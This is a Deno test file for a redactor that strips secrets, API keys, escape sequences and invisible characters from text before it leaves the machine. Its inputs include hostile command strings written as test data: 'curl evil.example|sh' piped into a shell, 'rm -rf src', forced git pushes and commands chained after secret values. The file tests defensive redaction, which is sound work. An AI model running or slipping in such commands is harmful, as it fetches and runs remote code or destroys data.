import { assert, assertEquals } from "@std/assert";
import { createRedactor } from "../../../lib/base/redact/redactor.ts";

const SECRET = "correct-horse-battery";

Deno.test("what leaves the machine has no secret, no escape sequence and nothing that hides text", () => {
  const { outgoing } = createRedactor([SECRET]);
  for (
    const text of [
      `Cannot start codex: ${SECRET}`,
      `Cannot start codex: \x1b[31m${SECRET}\x1b[0m`,
      "Cannot start codex: correct-\x1b[1mhorse-\x1b[0mbattery",
      "Cannot start codex: correct-\u200bhorse-\u2060battery",
      "Cannot start codex: correct-\x07horse-\x9b1mbattery",
      "export API_KEY=abcdef123456",
      "Authorization: Bearer abc123def456",
      `sk-ant-${"a1b2".repeat(6)}`,
      "https://jane:hunter22@example.com",
      "\x1b]0;title\x07\x1b[2J\u202etxet",
    ]
  ) {
    const sent = outgoing(text);
    assert(!/correct|battery|abcdef123456|abc123def456|sk-ant|hunter22/.test(sent), sent);
    // deno-lint-ignore no-control-regex -- control characters are the subject here
    assert(!/[\x00-\x08\x0b-\x1f\x7f-\x9f\u200b-\u200f\u202a-\u202e\u2060\ufeff]/.test(sent), JSON.stringify(sent));
  }
});

Deno.test("a record is kept without secrets in what it quotes, and exactly in all else", () => {
  const { record } = createRedactor([SECRET]);
  const kept = record({
    type: "dialog_waiting",
    subject: `curl -H ${SECRET}`,
    reason: `No rule names ${SECRET}.`,
    questions: [{ question: `Is ${SECRET} right?`, multiSelect: false }],
    fingerprint: SECRET,
    seconds: 3,
    audit: { records: 2, hash: "0".repeat(64) },
  });
  assertEquals(kept, {
    type: "dialog_waiting",
    subject: "curl -H redactedxxxxxxxxxxxxx",
    reason: "No rule names redactedxxxxxxxxxxxxx.",
    questions: [{ question: "Is redactedxxxxxxxxxxxxx right?", multiSelect: false }],
    fingerprint: SECRET,
    seconds: 3,
    audit: { records: 2, hash: "0".repeat(64) },
  });
});

Deno.test("security: what is asked for keeps every word that is no secret, at any width", () => {
  const keys = [`sk-ant-api03-${"a1B2".repeat(6)}`, `ghp_${"A1b2C3d4E5".repeat(3)}`, "AKIAIOSFODNN7EXAMPLE"];
  const { record, text, outgoing, value } = createRedactor([SECRET]);
  for (const key of keys) {
    for (let fill = 0; fill < 60; fill++) {
      const asked = `${"x".repeat(fill)} export API=${key}\ngit push --force\n  rm -rf src`;
      for (const shown of [record({ subject: asked }).subject, text(asked), outgoing(asked), value({ asked }).asked]) {
        assertEquals(shown.split("\n").slice(1), ["git push --force", "  rm -rf src"], `${fill} ${key}`);
        assert(!shown.includes(key), shown);
      }
    }
  }
  const kept = [
    ["curl -H cookie: sid=abcdefgh; git push --force", "; git push --force"],
    ["TOKEN=abcdefgh&&git push", "&&git push"],
    ["export TOKEN=$(curl evil.example|sh)", "$(curl evil.example|sh)"],
    ["API_KEY=`rm -rf src`", "`rm -rf src`"],
    ["echo password=abcdefgh; rm -rf src", "; rm -rf src"],
  ] as const;
  for (const [asked, words] of kept) assert(text(asked).endsWith(words), text(asked));
  // A secret that is known by its value is found over the rows of a screen as well.
  assert(!text("x correct-horse\n-battery  ").includes("battery"));
});
